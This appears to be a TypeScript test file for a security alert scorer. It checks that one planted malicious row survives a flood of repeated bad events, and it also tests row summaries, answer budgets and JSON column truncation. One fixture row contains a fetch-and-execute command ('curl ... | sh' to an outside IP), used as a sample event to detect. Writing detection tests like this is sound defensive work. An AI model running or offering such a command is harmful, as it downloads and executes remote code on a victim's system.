import t from 'tap';
import { cutColumns } from '../extension/tables/answer';
import type { ScoredEvent } from '../scorer/types';
import type { AnswerShare } from '../state/answer-share';
import { badAnswer, evesRow, tmpScoreStore } from './helpers/alert-answer';
import { plainRow } from './helpers/scored';

// A subject whose rows must be cut from an alert answer keeps the rows that matter (state/answer-keep.ts):
// every distinct event once, its onset, a row of each event an hour, then its lowest scores.
// Each case is the alert pack's `bad` query as osqueryd sends it, run as the schedule would.

/** eve's bad row i: one program of hers run over and over, its pid the only change */
const eves = (i: number, time: number, cmdline = 'x --loop'): ScoredEvent =>
  evesRow(i, { time, score: 0.05 + (i % 20) / 100, columns: JSON.stringify({ pid: String(4000 + i), path: '/tmp/q/x', cmdline }) });

t.test("a row planted among one subject's flood of a repeated bad event is answered individually (floodkeep)", async (t) => {
  const store = tmpScoreStore(t);
  const now = 1_800_000_000;
  const N = 12_000;
  const rows: ScoredEvent[] = [];
  for (let i = 0; i < N; i++) rows.push(eves(i, now - N * 5 + i * 5));
  // her real alert, well past the flood's first 2,000 rows and not its lowest score
  rows.splice(
    9_000,
    0,
    plainRow(0, {
      id: 'eve-curl',
      time: now - N * 5 + 9_000 * 5,
      host: 'web-01',
      subject: 'eve',
      event: 'exec /usr/bin/curl <- /bin/bash',
      score: 0.21,
      verdict: 'bad',
      reasons: 'program `/usr/bin/curl` never seen before (rarity)',
      columns: JSON.stringify({ pid: '31337', path: '/usr/bin/curl', cmdline: 'curl -s https://203.0.113.9/i | sh' }),
    }),
  );
  for (let i = 0; i < rows.length; i += 2000) store.append(rows.slice(i, i + 2000));
  const out = await badAnswer(store, now);
  const evesRows = out.filter((r) => r.subject === 'eve' && r.model !== 'held-back');
  t.ok(
    out.some((r) => r.id === 'eve-curl'),
    'the planted curl | sh row is in the answer, a row of its own',
  );
  // her onset and lowest scores (10 each), the flood's first row and one an hour (17 hours), the curl
  t.ok(evesRows.length <= 40, `a flood of one repeated event costs a row an hour, not 2,000 (${evesRows.length})`);
  t.ok(
    out.some((r) => r.id === 'eve-0'),
    "the flood's onset is answered",
  );
  const held = out.filter((r) => r.model === 'held-back');
  t.equal(held.length, 1, 'one summary');
  t.equal(evesRows.length + Number(/held back: (\d+) rows/.exec(held[0]?.event ?? '')?.[1]), N + 1, 'none lost silently');
  // (the bad query reads no `columns`: the held events are told in `event`)
  const told = /exec \/tmp\/<tmp>\/x <- \/bin\/bash[^;]* ×(\d+)/.exec(held[0]?.event ?? '');
  t.ok(told && Number(told[1]) > 9000, `the summary names the held event and how often (${held[0]?.event.slice(0, 200)})`);
});

t.test('across successive queries every distinct bad event of a flood is answered individually at least once (floodkeep)', async (t) => {
  const store = tmpScoreStore(t);
  const start = 1_800_000_000;
  const TICKS = 12;
  // 1,500 new distinct events a pack interval (10 minutes), 18,000 in two hours, each a new command line
  const PER_TICK = 1_500;
  const answered = new Set<string>();
  let made = 0;
  for (let tick = 1; tick <= TICKS; tick++) {
    const now = start + tick * 600;
    const batch: ScoredEvent[] = [];
    for (let k = 0; k < PER_TICK; k++, made++) batch.push(eves(made, now - 600 + Math.floor((k * 600) / PER_TICK), `x --target host${made.toString(36)}q`));
    store.append(batch);
    for (const r of await badAnswer(store, now)) if (r.model !== 'held-back') answered.add(r.id);
  }
  const never = Array.from({ length: made }, (_, i) => `eve-${i}`).filter((id) => !answered.has(id));
  t.equal(never.length, 0, `each of ${made} distinct bad rows reached the SIEM once (missing ${never.length}, e.g. ${never.slice(0, 3).join(', ')})`);
});

t.test('summaries count against the answer budget, however many subjects need one (floodkeep)', async (t) => {
  const store = tmpScoreStore(t);
  // 300 subjects of 5 bad rows each, every row 100 bytes, a summary 1,000: room for 100 rows a
  // subject but 300 rows in all, so each subject keeps one and needs a summary
  const rows: ScoredEvent[] = [];
  for (let s = 0; s < 300; s++)
    for (let k = 0; k < 5; k++) rows.push(plainRow(s * 5 + k, { id: `u${s}-${k}`, subject: `u${s}`, score: 0.1 + s / 10_000, verdict: 'bad' }));
  store.append(rows);
  const share: AnswerShare = { bytes: 100_000, heldBytes: 1_000, rows: 300, perSubject: Infinity, rowBytes: () => 100 };
  const out = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)];
  const kept = out.filter((r) => !('held' in r)).length;
  const held = out.filter((r) => 'held' in r) as { rows: number; subject: string }[];
  const bytes = kept * 100 + held.length * 1_000;
  t.ok(bytes <= share.bytes, `rows and summaries within the budget (${bytes} bytes: ${kept} rows, ${held.length} summaries)`);
  t.equal(kept + held.reduce((n, h) => n + h.rows, 0), 1500, 'every row kept or summed up');
  t.ok(
    held.some((h) => h.subject === 'u0'),
    'the most severe subject has a summary of its own',
  );
  t.ok(
    held.some((h) => h.subject === '*'),
    'the others share one',
  );
});

t.test("a row's columns stay JSON however long their key names alone (floodkeep)", async (t) => {
  const doc: Record<string, string> = {};
  for (let k = 0; k < 200; k++) doc[`${'k'.repeat(60)}${k}`] = 'v'.repeat(100);
  doc[`long_${'\u0001'.repeat(9000)}`] = 'x';
  for (const text of [JSON.stringify(doc), JSON.stringify({ [`${'k'.repeat(20_000)}`]: 'v' }), `not json ${'\u0001'.repeat(20_000)}`]) {
    const cut = cutColumns(text, 8192);
    t.ok(Buffer.byteLength(cut) <= 8192, `${Buffer.byteLength(cut)} bytes`);
    let parsed: unknown = null;
    try {
      parsed = JSON.parse(cut);
    } catch {
      // (fails below)
    }
    t.ok(parsed && typeof parsed === 'object' && !Array.isArray(parsed), 'a JSON object');
  }
});
